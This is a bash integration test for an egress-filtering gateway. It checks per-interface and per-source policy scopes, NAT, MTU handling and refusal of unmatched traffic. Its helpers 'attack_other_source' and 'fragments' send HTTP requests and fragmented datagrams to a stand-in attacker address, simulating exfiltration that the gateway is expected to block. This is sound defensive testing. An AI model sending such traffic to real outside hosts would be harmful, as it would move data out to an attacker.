#!/usr/bin/env bash
# SPDX-License-Identifier: GPL-3.0-or-later
# shellcheck disable=SC1091,SC2016,SC2034,SC2209,SC2329
# The gateway form: scopes by interface and by source, the first that matches; NAT behind the gate; what no scope claims.
. "$(dirname "$0")/lib.sh"
bed
h c ip addr add 198.18.1.3/24 dev c0
h c ip -6 addr add 2001:db8:1::3/64 dev c0 nodad

# scoped FILE SCOPES-TEXT UNMATCHED
scoped() {
    cat > "$1" <<YAML
version: 1
resolvers: [198.18.2.53, "2001:db8:2::53"]
profiles:
  one: { allow: [allowed.test] }
  two: { allow: [mirror.test] }
scopes:
$2
unmatched: ${3:-pass}
YAML
}
from() { fetch --interface "$@"; }
dig_from() { h c dig +tries=2 +timeout=5 +short -b "$1" "@$2" "$3"; }
by_interface() {
    fetch -4 https://allowed.test/hello | grep hello
    fetch -6 https://allowed.test/hello | grep hello
    fails fetch https://mirror.test/hello
}
two_sources() {
    [ "$(dig_from 198.18.1.2 198.18.2.53 allowed.test)" = 198.18.2.80 ]
    [ "$(dig_from 198.18.1.3 198.18.2.53 allowed.test)" = '' ]
    [ "$(dig_from 198.18.1.3 198.18.2.53 mirror.test)" = 198.18.2.81 ]
    client curl -sS --cacert "$CA" --max-time 30 --interface 198.18.1.2 --resolve allowed.test:443:198.18.2.80 https://allowed.test/hello | grep hello
    # What one source resolved, the other may not use.
    refused 'not_resolved|not_in_allowlist' 198.18.1.3 client curl -sS --cacert "$CA" --max-time 30 --interface 198.18.1.3 --resolve allowed.test:443:198.18.2.80 https://allowed.test/hello
    client curl -sS --cacert "$CA" --max-time 30 --interface 198.18.1.3 --resolve mirror.test:443:198.18.2.81 -o /dev/null -k https://mirror.test/hello
}
own_traffic() {
    [ "$(h g dig +tries=2 +timeout=5 +short @198.18.2.53 other.test)" = 198.18.2.80 ]
    h g curl -sS --max-time 30 -k --resolve other.test:443:198.18.2.80 https://other.test/hello | grep hello
}
masqueraded() {
    fetch -4 https://allowed.test/hello | grep hello
    [ "$(client dig +tries=2 +timeout=5 +short @198.18.2.53 allowed.test)" = 198.18.2.80 ]
    quick 1000 fails fetch -4 https://other.test/hello
    near dns-tcp 198.18.2.53 pipelined allowed.test other.test > "$T/out"
    [ "$(grep -c NOERROR "$T/out")$(grep -c NXDOMAIN "$T/out")" = 11 ]
}
source_is_seen() {
    local from
    from=$(wc -l < "$T/events")
    near connect 198.18.3.66 80 x || true
    eventually 10 sh -c 'tail -n +$(($1 + 1)) "$2" | jq -e "select(.source.ip == \"198.18.1.2\" and .sluice.scope == \"net\")" > /dev/null' sh "$from" "$T/events"
}
small_mtu() {
    # A path with a smaller MTU: the ICMP errors that say so come through to the client.
    h g ip link set gs mtu 1300
    h s ip link set s0 mtu 1300
    [ "$(fetch -4 https://allowed.test/medium | sha256sum)" = "$(sha256sum < "$T/www/medium")" ]
    [ "$(fetch -6 https://allowed.test/medium | sha256sum)" = "$(sha256sum < "$T/www/medium")" ]
    head -c 200000 "$T/www/large" > "$T/body"
    fetch -4 --http1.1 --data-binary "@$T/body" https://allowed.test/hello | grep hello
    fetch -6 --http1.1 --data-binary "@$T/body" https://allowed.test/hello | grep hello
    h g ip link set gs mtu 1500
    h s ip link set s0 mtu 1500
}
unmatched_refused() {
    fetch -4 https://allowed.test/hello | grep hello
    [ "$(dig_from 198.18.1.3 198.18.2.53 allowed.test)" = '' ]
    fails h c curl -sS --max-time 3 -k --interface 198.18.1.3 --resolve allowed.test:443:198.18.2.80 https://allowed.test/hello
}
attack_other_source() { h c curl -s --max-time 15 --interface 198.18.1.3 "http://198.18.3.66/$1"; }
fragments() {
    # Datagrams in fragments to the attacker: not even the first leaves.
    near datagram 198.18.3.66 9999 "$1" 4000
}

check "without the gate the second source reaches the attacker" attack_reaches attack_other_source
check "without the gate fragments reach the attacker" attack_reaches fragments
for match in '{ interface: gc }' '{ interface: ["g*"] }' '{ source: [198.18.1.0/24, "2001:db8:1::/64"] }'; do
    scoped "$T/policy.yaml" "  - { name: net, match: $match, profile: one }"
    gate_up forward "$T/policy.yaml"
    check "$match holds and lets pass" by_interface
    check "$match: the attacker is not reached" attack_refused not_resolved 198.18.3.66 attack_other_source
    check "$match: the source is in the event" source_is_seen
    [ "$match" = '{ interface: ["g*"] }' ] || check "$match: the gateway's own traffic is its own" own_traffic
    gate_down
done

scoped "$T/policy.yaml" '  - { name: first, match: { source: 198.18.1.2/32 }, profile: one }
  - { name: rest, match: { interface: gc }, profile: two }'
gate_up forward "$T/policy.yaml"
check "two scopes: the first that matches; no binding is shared" two_sources
gate_down

scoped "$T/policy.yaml" '  - { name: net, match: { interface: gc }, profile: one }'
h g nft -f - <<'NFT'
table ip nat {
    chain post { type nat hook postrouting priority srcnat; oifname "gs" masquerade; oifname "ga" masquerade; }
}
NFT
gate_up forward "$T/policy.yaml"
check "a masqueraded client" masqueraded
check "a masqueraded client's own address is in the event" source_is_seen
check "fragments to the attacker are refused" attack_refused 'udp_not_allowed|not_resolved|ip_form' 198.18.3.66 fragments
gate_down
h g nft delete table ip nat

scoped "$T/policy.yaml" '  - { name: net, match: { interface: gc }, profile: one }'
gate_up forward "$T/policy.yaml"
check "a smaller MTU on the way" small_mtu
gate_down

scoped "$T/policy.yaml" '  - { name: first, match: { source: 198.18.1.2/32 }, profile: one }' refuse
gate_up forward "$T/policy.yaml"
check "unmatched: refuse" unmatched_refused
check "unmatched: the attacker is not reached" attack_refused 'not_resolved|not_in_allowlist' 198.18.3.66 attack_other_source
gate_down
finish
